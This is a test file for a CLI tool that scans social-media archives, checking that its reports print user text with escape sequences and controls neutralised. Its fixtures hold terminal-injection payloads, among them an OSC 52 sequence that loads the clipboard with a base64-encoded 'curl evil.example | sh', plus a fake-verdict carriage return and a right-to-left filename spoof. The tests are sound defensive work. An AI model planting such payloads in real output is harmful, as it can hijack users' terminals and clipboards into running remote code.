import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { describe, it } from "node:test";
import { fileURLToPath } from "node:url";
import { jsonVisible, terminalLine, terminalSafe } from "../../src/cli/terminal.js";

const root = join(dirname(fileURLToPath(import.meta.url)), "../../..");
const bin = join(root, "bin/impartial.js");
const noConfig = mkdtempSync(join(tmpdir(), "impartial-noconfig-"));

function run(args: string[], input?: string) {
  const r = spawnSync(process.execPath, [bin, ...args], { input, encoding: "utf8", cwd: noConfig, env: { ...process.env, XDG_CONFIG_HOME: noConfig, NO_COLOR: "1", FORCE_COLOR: "", LC_ALL: "", LC_MESSAGES: "", LANG: "en_CA.UTF-8" } });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

// What someone else's post can carry to a terminal that prints it raw.
const CLEAR_SCREEN = "\u001b[2J\u001b[H";
const CLIPBOARD = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007"; // OSC 52: sets the clipboard
const FAKE_VERDICT = "\rNo problems found.                    ";
const C1_CSI = "\u009b31m";
const RLO = "\u202e";
const HOSTILE = `Vote NDP! ${CLEAR_SCREEN}${CLIPBOARD}${FAKE_VERDICT}${C1_CSI} gpj.exe${RLO}txt.`;

/** Nothing a terminal obeys: no ESC, no BEL, no lone CR, no C1 control, no bidi embedding, override or isolate. */
function assertInert(output: string): void {
  assert.doesNotMatch(output, /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028\u2029]/, "a control character reached the terminal");
  assert.doesNotMatch(output, /\r(?!\n)/, "a carriage return could overwrite the line");
}

describe("terminalSafe", () => {
  it("shows escape sequences, C1 controls and bidi overrides as their escapes, and keeps newlines and tabs", () => {
    assert.equal(terminalSafe("a\u001b[2Jb"), "a\\x1b[2Jb");
    assert.equal(terminalSafe("x\u009b31my"), "x\\x9b31my");
    assert.equal(terminalSafe("abc\u202edef\u2066g\u2069"), "abc\\u202edef\\u2066g\\u2069");
    assert.equal(terminalSafe("bell\u0007 del\u007f nul\u0000"), "bell\\x07 del\\x7f nul\\x00");
    assert.equal(terminalSafe("line one\nline\ttwo"), "line one\nline\ttwo");
    assert.equal(terminalSafe("windows\r\nline"), "windows\r\nline", "CR then LF overwrites nothing");
    assert.equal(terminalSafe("fake\rverdict"), "fake\\rverdict");
    assert.equal(terminalSafe("para\u2028graph"), "para\\u2028graph");
  });

  it("keeps the right-to-left marks that Arabic and Hebrew text needs", () => {
    assert.equal(terminalSafe("שלום\u200f!"), "שלום\u200f!");
    assert.equal(terminalSafe("\u200eabc\u061c"), "\u200eabc\u061c");
  });

  it("puts a multi-line text on one line when asked", () => {
    assert.equal(terminalSafe("one\ntwo\r\n", "escape"), "one\\ntwo\\r\\n");
    assert.equal(terminalLine("Vote\n\n NDP\u001b[2J  today ", 12), "Vote NDP\\x1b[2J");
  });

  it("leaves JSON the same value, with what JSON.stringify keeps raw escaped", () => {
    const value = { text: HOSTILE, note: "\u0085\u2028" };
    const json = jsonVisible(JSON.stringify(value));
    assertInert(json);
    assert.deepEqual(JSON.parse(json), value);
  });
});

const tweet = (id: string, text: string) => ({ tweet: { id_str: id, id, created_at: "Tue Oct 01 15:00:00 +0000 2019", full_text: text, entities: { urls: [], hashtags: [], user_mentions: [] }, retweeted: false } });

function hostileArchive(): string {
  const dir = mkdtempSync(join(tmpdir(), "impartial-hostile-"));
  mkdirSync(join(dir, "data"));
  writeFileSync(join(dir, "data", "tweets.js"), `window.YTD.tweets.part0 = ${JSON.stringify([tweet("1001", HOSTILE), tweet("1002", `You are a worthless moron ${CLIPBOARD}`)])}`);
  writeFileSync(join(dir, "data", "account.js"), `window.YTD.account.part0 = [{"account":{"username":"pat_example","accountId":"1"}}]`);
  return dir;
}

describe("every command prints an export's or a user's text inert", () => {
  it("check, in its report, its JSON and its error messages", () => {
    const human = run(["check", HOSTILE]);
    assert.equal(human.code, 1);
    assertInert(human.stdout);
    assert.match(human.stdout, /\\x1b\[2J/, "the escape is shown, not obeyed");
    assert.match(human.stdout, /gpj\.exe\\u202etxt\./);
    const json = run(["check", "--json", HOSTILE]);
    assertInert(json.stdout);
    const jsonl = run(["check", "--jsonl"], `${JSON.stringify({ id: `c1${RLO}`, text: HOSTILE })}\n`);
    assertInert(jsonl.stdout);
    assert.equal(JSON.parse(jsonl.stdout).id, `c1${RLO}`, "the JSON value is unchanged");
    const unknown = run([`che\u001b]52;c;eA==\u0007ck`]);
    assert.equal(unknown.code, 64);
    assertInert(unknown.stderr);
  });

  it("scan, in its summary, its JSON lines and its CSV", () => {
    const dir = hostileArchive();
    const summary = run(["scan", dir, "--db", ":memory:"]);
    assert.equal(summary.code, 2);
    assertInert(summary.stdout + summary.stderr);
    assert.match(summary.stdout, /Vote NDP! \\x1b\[2J/);
    const jsonl = run(["scan", dir, "--db", ":memory:", "--jsonl"]);
    assertInert(jsonl.stdout);
    assertInert(run(["scan", dir, "--db", ":memory:", "--csv"]).stdout);
  });

  it("review: the listing, its JSON, the checklist, the imports and the echo of a decision", () => {
    const dir = hostileArchive();
    const db = join(mkdtempSync(join(tmpdir(), "impartial-db-")), "review.db");
    run(["scan", dir, "--db", db]);
    const listing = run(["review", "--all", "--db", db]);
    assertInert(listing.stdout);
    assert.match(listing.stdout, /You are a worthless moron \\x1b\]52;c;/);
    assertInert(run(["review", "--all", "--json", "--db", db]).stdout);
    const unknown = run(["review", "mark", `x:1003${CLEAR_SCREEN}`, "delete", "--db", db]);
    assert.equal(unknown.code, 64);
    assert.match(unknown.stderr, /x\/1003\\x1b\[2J/);
    assertInert(unknown.stderr);
    const marked = run(["review", "mark", "x:1002", "delete", "--note", `gone ${CLIPBOARD}`, "--db", db]);
    assert.equal(marked.code, 0, marked.stderr);
    const checklist = run(["review", "checklist", "--db", db]);
    assert.match(checklist.stdout, /gone \\x1b\]52;c;/);
    assertInert(checklist.stdout);
    assertInert(run(["review", "checklist", "--csv", "--db", db]).stdout);
    assertInert(run(["review", "imports", "--db", db]).stdout);
  });

  it("explain, when the rule named is not one", () => {
    const r = run(["explain", `partisan/${CLEAR_SCREEN}`]);
    assert.equal(r.code, 64);
    assertInert(r.stderr);
  });
});

describe("the scan's progress line", () => {
  it("shows the name of the file being read inert: a zip entry's name comes from the export", async () => {
    const { readingLabel } = await import("../../src/cli/progress.js");
    const label = readingLabel({ file: `data/tweets${CLEAR_SCREEN}${RLO}.js`, bytesRead: 1, bytes: 2 }, "en");
    assertInert(label);
    assert.equal(label, " · tweets\\x1b[2J\\x1b[H\\u202e.js 50%");
  });
});
